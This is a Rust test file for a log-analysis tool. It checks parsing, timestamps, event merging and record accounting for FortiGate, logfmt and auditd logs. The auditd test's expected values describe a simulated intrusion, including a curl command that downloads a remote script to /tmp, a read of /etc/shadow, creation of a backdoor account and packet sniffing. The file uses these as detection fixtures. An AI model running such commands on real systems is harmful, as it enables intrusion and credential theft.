//! `key=value` lines (FortiGate, logfmt) and Linux auditd records: detection, exact fields,
//! UTC times, multi-record auditd events citing every record (offsets that read each record
//! back), accounting. Fixtures in `fixtures/formats/` (see `fixtures/README.md`); the auditd
//! corpus (go-libaudit, OTRF) when present.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util::*;

fn fixture(name: &str) -> PathBuf {
    repo().join("fixtures/formats").join(name)
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Every evidence entry of every event reads back a whole record of `path` (a line, without
/// its line end), and the `line` is that record's line number.
fn assert_evidence_reads_back(evs: &[Value], path: &Path) {
    let data = std::fs::read(path).unwrap();
    for e in evs {
        for ev in e["evidence"].as_array().unwrap() {
            let (off, len) = (
                ev["offset"].as_u64().unwrap(),
                ev["length"].as_u64().unwrap(),
            );
            let bytes = cited(path, off, len);
            let before = &data[..off as usize];
            assert!(off == 0 || before.ends_with(b"\n"), "record start: {ev}");
            let after = data.get((off + len) as usize).copied();
            assert!(
                matches!(after, None | Some(b'\n') | Some(b'\r')),
                "record end: {ev}"
            );
            assert!(!bytes.contains(&b'\n'));
            let line = before.iter().filter(|b| **b == b'\n').count() as u64 + 1;
            assert_eq!(ev["line"].as_u64(), Some(line), "{ev}");
        }
    }
}

fn evidence_lines(e: &Value) -> Vec<u64> {
    e["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["line"].as_u64().unwrap())
        .collect()
}

fn input_of<'a>(doc: &'a Value, suffix: &str) -> &'a Value {
    doc["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["path"].as_str().unwrap().ends_with(suffix))
        .unwrap_or_else(|| panic!("{suffix}"))
}

#[test]
fn fortigate_kv_detected_and_mapped_exactly() {
    let path = fixture("fortigate-kv.log");
    let out = stdout_of(["formats", s(&path)], 0);
    assert!(
        out.trim_end().ends_with(
            "fortigate-kv.log: kv — 5 of the first 6 records read as kv (key=value pairs: FortiGate)"
        ),
        "{out}"
    );
    let evs = events([s(&path), "--tz", "Europe/Berlin"]);
    assert_eq!(evs.len(), 5);
    assert_evidence_reads_back(&evs, &path);
    // Traffic deny: eventtime (ns) wins, exact to the microsecond, UTC.
    let e = &evs[0];
    assert_eq!(e["ts"], "2026-03-02T08:12:11.123456Z");
    assert_eq!(e["ts_quality"], serde_json::json!([]));
    assert_eq!(e["ts_field"], "eventtime");
    assert_eq!(e["ts_original"], "1772439131123456789");
    assert_eq!(e["kind"], "network");
    assert_eq!(e["action"], "deny");
    assert_eq!(e["outcome"], "failure");
    assert_eq!(e["severity"], "info");
    assert_eq!(e["host"], "fw-edge-02");
    assert_eq!(e["src_ip"], "203.0.113.7");
    assert_eq!(e["dst_ip"], "10.0.20.5");
    assert_eq!(e["summary"], "Denied by forward policy check (policy 0)");
    assert_eq!(e["fields"]["srcport"], "51514");
    assert_eq!(e["fields"]["service"], "SSH");
    assert_eq!(e["fields"]["date+time"], "2026-03-02 09:12:11 +0100");
    // Admin login failed: date + time + tz combined.
    let e = &evs[1];
    assert_eq!(e["ts"], "2026-03-02T08:14:02.000000Z");
    assert_eq!(e["ts_field"], "date+time");
    assert_eq!(e["ts_original"], "2026-03-02 09:14:02 +0100");
    assert_eq!(e["kind"], "authentication");
    assert_eq!(e["action"], "login");
    assert_eq!(e["outcome"], "failure");
    assert_eq!(e["user"], "admin");
    assert_eq!(e["severity"], "critical");
    // IPS: a finding titled by its signature; eventtime in seconds.
    let e = &evs[2];
    assert_eq!(e["ts"], "2026-03-02T08:15:30.000000Z");
    assert_eq!(e["kind"], "finding");
    assert_eq!(e["severity"], "critical");
    assert_eq!(
        e["summary"],
        "Alert \"Apache.Log4j.Error.Log.Remote.Code.Execution\" on fw-edge-02"
    );
    // Behind a bare <PRI>, no tz and no eventtime: read in --tz and flagged.
    let e = &evs[3];
    assert_eq!(e["ts"], "2026-03-02T08:20:00.000000Z");
    assert_eq!(e["ts_quality"], serde_json::json!(["assumed_tz"]));
    assert_eq!(e["kind"], "config_change");
    assert_eq!(e["action"], "Edit");
    assert_eq!(e["fields"]["pri"], "189");
    assert_eq!(e["fields"]["cfgattr"], "member[203.0.113.7]");
    // SSL VPN tunnel up; its msg was cut by the collector (no closing quote).
    let e = &evs[4];
    assert_eq!(e["ts"], "2026-03-02T08:21:40.000000Z");
    assert_eq!(e["kind"], "authentication");
    assert_eq!(e["user"], "j.doe");
    assert_eq!(e["src_ip"], "198.51.100.23");
    assert_eq!(e["summary"], "SSL tunnel established");
    // Accounting: the junk line is a located rejection.
    let doc = timeline([s(&path), "--tz", "Europe/Berlin"]);
    assert_reconciled(&doc);
    let i = &doc["inputs"][0];
    assert_eq!(i["format"], "kv");
    assert_eq!(
        (
            i["records"].as_u64(),
            i["events"].as_u64(),
            i["rejected"].as_u64()
        ),
        (Some(6), Some(5), Some(1))
    );
    assert_eq!(i["rejects"][0]["line"], 6);
    assert_eq!(i["first"], "2026-03-02T08:12:11.123456Z");
    assert_eq!(i["ts_assumed_tz"], 1);
}

#[test]
fn logfmt_lines_read_with_their_own_times() {
    let path = fixture("logfmt.log");
    let out = stdout_of(["formats", s(&path)], 0);
    assert!(
        out.contains("logfmt.log: kv — 3 of the first 3 records read as kv (key=value pairs)"),
        "{out}"
    );
    let evs = events([s(&path)]);
    assert_eq!(evs.len(), 3);
    assert_evidence_reads_back(&evs, &path);
    let got: Vec<(&str, &str, &str, &str)> = evs
        .iter()
        .map(|e| {
            (
                e["ts"].as_str().unwrap(),
                e["ts_field"].as_str().unwrap(),
                e["severity"].as_str().unwrap(),
                e["summary"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                "2026-03-02T09:15:00.250000Z",
                "ts",
                "medium",
                "login failed"
            ),
            (
                "2026-03-02T09:15:04.001000Z",
                "ts",
                "info",
                "login succeeded"
            ),
            (
                "2026-03-02T09:16:00.000000Z",
                "time",
                "high",
                "export of \"customers\" table started"
            ),
        ]
    );
    assert_eq!(evs[0]["user"], "alice");
    assert_eq!(evs[0]["src_ip"], "198.51.100.23");
    assert_eq!(evs[0]["fields"]["caller"], "auth/login.go:88");
    assert_eq!(evs[0]["fields"]["reason"], "bad password");
    assert!(evs.iter().all(|e| e["ts_quality"] == serde_json::json!([])));
}

/// key=value pairs inside other formats do not make them `kv`.
#[test]
fn kv_loses_to_the_formats_that_carry_pairs() {
    let dir = TestDir::new("kv-loses");
    let cases = [
        (
            "cef.log",
            "CEF:0|Fortinet|Fortigate|7.2|13|traffic:forward deny|3|src=203.0.113.7 dst=10.0.0.5 act=deny rt=1772439131000 suser=bob\n",
            "cef",
        ),
        (
            "syslog-kv.log",
            "<189>Mar  2 09:12:11 fw01 date=2026-03-02 time=09:12:11 devname=\"fw01\" srcip=203.0.113.7 action=\"deny\"\n",
            "rfc3164",
        ),
        (
            "json.log",
            "{\"ts\":\"2026-03-02T09:12:11Z\",\"a\":\"b=c d=e f=g\"}\n",
            "ndjson",
        ),
        (
            "fortigate-pri.log",
            "<189>date=2026-03-02 time=09:12:11 devname=\"fw01\" srcip=203.0.113.7 action=\"deny\"\n",
            "kv",
        ),
        (
            "auditd.log",
            "type=USER_LOGIN msg=audit(1772442733.468:4107): pid=2214 uid=0 auid=1001 ses=5 msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=/dev/pts/1 res=success'\n",
            "auditd",
        ),
        // Two pairs are not enough to call a file key=value.
        (
            "two-pairs.log",
            "ts=2026-03-02T09:12:11Z msg=hello\nts=2026-03-02T09:12:12Z msg=again\n",
            "unknown",
        ),
    ];
    for (name, text, want) in cases {
        let p = dir.write(name, text);
        let out = stdout_of(["formats", s(&p)], 0);
        assert!(
            out.contains(&format!("{name}: {want} ")),
            "{name} should be {want}: {out}"
        );
    }
}

#[test]
fn auditd_records_of_one_event_become_one_event() {
    let path = fixture("auditd-exec.log");
    let out = stdout_of(["formats", s(&path)], 0);
    assert!(
        out.contains("auditd-exec.log: auditd — 16 of the first 17 records read as auditd"),
        "{out}"
    );
    let evs = events([s(&path)]);
    assert_eq!(evs.len(), 8);
    assert_evidence_reads_back(&evs, &path);
    let text = std::fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    // Every record cited by an event carries that event's audit(time:serial), and every
    // record with a header is cited exactly once.
    let mut cited_lines: Vec<u64> = Vec::new();
    for e in &evs {
        let ls = evidence_lines(e);
        let header = |l: u64| {
            let line = lines[l as usize - 1];
            let at = line.find("audit(").unwrap();
            line[at..at + line[at..].find(')').unwrap()].to_string()
        };
        assert!(ls.iter().all(|&l| header(l) == header(ls[0])), "{e}");
        assert!(ls.windows(2).all(|w| w[0] < w[1]), "file order: {e}");
        cited_lines.extend(ls);
    }
    cited_lines.sort_unstable();
    assert_eq!(
        cited_lines,
        [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 14, 15, 16, 17]
    );

    let brief: Vec<(&str, &str, &str, Vec<u64>)> = evs
        .iter()
        .map(|e| {
            (
                e["ts"].as_str().unwrap(),
                e["kind"].as_str().unwrap(),
                e["action"].as_str().unwrap(),
                evidence_lines(e),
            )
        })
        .collect();
    assert_eq!(
        brief,
        [
            (
                "2026-03-02T09:12:11.101000Z",
                "authentication",
                "user_auth",
                vec![1]
            ),
            (
                "2026-03-02T09:12:13.410000Z",
                "authentication",
                "user_auth",
                vec![2]
            ),
            (
                "2026-03-02T09:12:13.468000Z",
                "authentication",
                "user_login",
                vec![3]
            ),
            (
                "2026-03-02T09:13:21.512000Z",
                "process",
                "execve",
                vec![4, 6, 7, 9, 10, 12]
            ),
            (
                "2026-03-02T09:13:21.512000Z",
                "file",
                "openat",
                vec![5, 8, 11]
            ),
            (
                "2026-03-02T09:15:00.001000Z",
                "account_change",
                "user_created",
                vec![14]
            ),
            (
                "2026-03-02T09:15:01.220000Z",
                "account_change",
                "password_changed",
                vec![15]
            ),
            (
                "2026-03-02T09:16:00.333000Z",
                "finding",
                "anom_promiscuous",
                vec![16, 17]
            ),
        ]
    );
    // The failed authentication from outside.
    let e = &evs[0];
    assert_eq!(e["outcome"], "failure");
    assert_eq!(e["user"], "deploy");
    assert_eq!(e["src_ip"], "203.0.113.7");
    assert_eq!(e["host"], "web-01");
    assert_eq!(e["process"], "/usr/sbin/sshd");
    assert_eq!(e["ts_field"], "time");
    assert_eq!(e["ts_original"], "1772442731.101");
    assert_eq!(e["fields"]["acct"], "deploy");
    assert_eq!(e["fields"]["serial"], "4101");
    // The exec: SYSCALL's fields lead, EXECVE's hex argument decoded, every record cited.
    let e = &evs[3];
    assert_eq!(e["user"], "1001");
    assert_eq!(e["process"], "/usr/bin/curl");
    assert_eq!(e["outcome"], "success");
    assert_eq!(e["host"], "web-01");
    assert_eq!(
        e["summary"],
        "1001 ran /usr/bin/curl (execve) on web-01; command line: curl -s -o /tmp/.x sh http://198.51.100.9/p.sh"
    );
    assert_eq!(
        e["fields"]["type"],
        serde_json::json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"])
    );
    assert_eq!(e["fields"]["cwd"], "/home/deploy");
    assert_eq!(e["fields"]["a3"], serde_json::json!(["8", "/tmp/.x sh"]));
    assert_eq!(
        e["fields"]["proctitle"],
        "curl -s -o /tmp/.x sh http://198.51.100.9/p.sh"
    );
    for ev in e["evidence"].as_array().unwrap() {
        assert_eq!(ev["format"], "auditd");
        assert_eq!(ev["input"], 0);
        let rec = cited(
            &path,
            ev["offset"].as_u64().unwrap(),
            ev["length"].as_u64().unwrap(),
        );
        let rec = String::from_utf8(rec).unwrap();
        assert!(rec.contains("msg=audit(1772442801.512:4120): "), "{rec}");
    }
    // Interleaved with it, at the same millisecond: the ENRICHED openat (user by name).
    let e = &evs[4];
    assert_eq!(e["user"], "deploy");
    assert_eq!(e["outcome"], "failure");
    assert_eq!(e["process"], "/usr/bin/cat");
    assert_eq!(e["fields"]["AUID"], "deploy");
    assert_eq!(e["fields"]["name"], "/etc/shadow");
    // The account the attacker made and its password.
    assert_eq!(evs[5]["user"], "svc-backup");
    assert_eq!(
        evs[5]["summary"],
        "user created: svc-backup (add-user) by 1001 via /usr/sbin/useradd on web-01"
    );
    assert_eq!(evs[6]["user"], "svc-backup");
    // The anomaly leads its SYSCALL; low severity.
    let e = &evs[7];
    assert_eq!(e["severity"], "low");
    assert_eq!(e["process"], "/usr/bin/tcpdump");
    assert_eq!(
        e["summary"],
        "device eth0 entered promiscuous mode by 1001 on web-01; setsockopt by 1001 via /usr/bin/tcpdump on web-01"
    );

    // Accounting: every record counts, merged or not.
    let doc = timeline([s(&path)]);
    assert_reconciled(&doc);
    let i = &doc["inputs"][0];
    assert_eq!(i["format"], "auditd");
    assert_eq!(
        (
            i["records"].as_u64(),
            i["events"].as_u64(),
            i["rejected"].as_u64(),
            i["skipped"].as_u64()
        ),
        (Some(18), Some(16), Some(1), Some(1))
    );
    assert_eq!(i["rejects"][0]["line"], 18);
    assert_eq!(i["reject_reasons"]["no timestamp"], 1);
    assert_eq!(i["first"], "2026-03-02T09:12:11.101000Z");
    // The timeline's events are merged the same way.
    let inc = &doc["incidents"][0];
    let tl = inc["timeline"].as_array().unwrap();
    let exec = tl
        .iter()
        .find(|e| e["action"] == "execve")
        .expect("the exec event is in the incident");
    assert_eq!(evidence_lines(exec), [4, 6, 7, 9, 10, 12]);
    assert_eq!(exec["id"], evs[3]["id"]);
    let anom = tl.iter().find(|e| e["kind"] == "finding").unwrap();
    assert_eq!(evidence_lines(anom), [16, 17]);
    assert_eq!(anom["phase"], "detection");
}

#[test]
fn auditd_output_is_the_same_at_any_thread_count() {
    let path = fixture("auditd-exec.log");
    let one = stdout_of(["events", s(&path), "--threads", "1"], 0);
    let four = stdout_of(["events", s(&path), "--threads", "4"], 0);
    assert_eq!(one, four);
    let t1 = stdout_of(["timeline", s(&path), "--threads", "1"], 0);
    let t4 = stdout_of(["timeline", s(&path), "--threads", "4"], 0);
    assert_eq!(t1, t4);
}

/// The auditd corpus: every record parses (go-libaudit's own golden output also leaves
/// `type=UNKNOWN[1329] msg=?` unparsed), events join by `audit(time:serial)`.
#[test]
fn auditd_corpus_reads_and_joins() {
    let (Some(lib), Some(otrf)) = (
        corpus("go-libaudit-testdata"),
        corpus("otrf-security-datasets/linux-auditd"),
    ) else {
        return;
    };
    // (file, records, rejected, events after joining)
    let files: [(PathBuf, u64, u64, usize); 8] = [
        (lib.join("audit-rhel6.log"), 2, 0, 2),
        (lib.join("audit-rhel7.log"), 50, 1, 46),
        (lib.join("audit-ubuntu14.log"), 1, 0, 1),
        (lib.join("audit-ubuntu16.log"), 3, 0, 3),
        (lib.join("audit-ubuntu17.log"), 1, 0, 1),
        (lib.join("test2.log"), 10, 0, 7),
        (lib.join("test3.log"), 17, 0, 10),
        (otrf.join("sh_arp_cache_2020-11-10074812.log"), 12, 0, 2),
    ];
    for (path, records, rejected, joined) in &files {
        let doc = timeline([s(path)]);
        assert_reconciled(&doc);
        let i = &doc["inputs"][0];
        assert_eq!(i["format"], "auditd", "{}", path.display());
        assert_eq!(i["records"].as_u64(), Some(*records), "{}", path.display());
        assert_eq!(
            i["rejected"].as_u64(),
            Some(*rejected),
            "{}",
            path.display()
        );
        let evs = events([s(path)]);
        assert_eq!(evs.len(), *joined, "{}", path.display());
        assert_evidence_reads_back(&evs, path);
        let cited: usize = evs
            .iter()
            .map(|e| e["evidence"].as_array().unwrap().len())
            .sum();
        assert_eq!(cited as u64, records - rejected, "{}", path.display());
    }
    let rhel7 = timeline([s(&files[1].0)]);
    let i = input_of(&rhel7, "audit-rhel7.log");
    assert_eq!(i["rejects"][0]["line"], 31);
    // OTRF's `arp -a | grep -v ^?`: two exec events of six records each.
    let evs = events([s(&files[7].0)]);
    let got: Vec<(&str, &str, Vec<u64>)> = evs
        .iter()
        .map(|e| {
            (
                e["process"].as_str().unwrap(),
                e["summary"].as_str().unwrap(),
                evidence_lines(e),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                "/usr/sbin/arp",
                "1000 ran /usr/sbin/arp (execve); command line: arp -a",
                vec![1, 2, 3, 4, 5, 6]
            ),
            (
                "/bin/grep",
                "1000 ran /bin/grep (execve); command line: grep -v ^?",
                vec![7, 8, 9, 10, 11, 12]
            ),
        ]
    );
    assert!(evs
        .iter()
        .all(|e| e["ts"] == "2020-11-10T07:48:16.155000Z" && e["user"] == "1000"));
    // test3: out-of-order serials at one millisecond, each SYSCALL with its PROCTITLE.
    let evs = events([s(&files[6].0)]);
    let sshd = evs
        .iter()
        .find(|e| evidence_lines(e) == [1, 4])
        .expect("194435: SYSCALL line 1 + PROCTITLE line 4");
    assert_eq!(sshd["process"], "/usr/sbin/sshd");
    assert_eq!(sshd["fields"]["proctitle"], "sshd: burn [priv]");
}
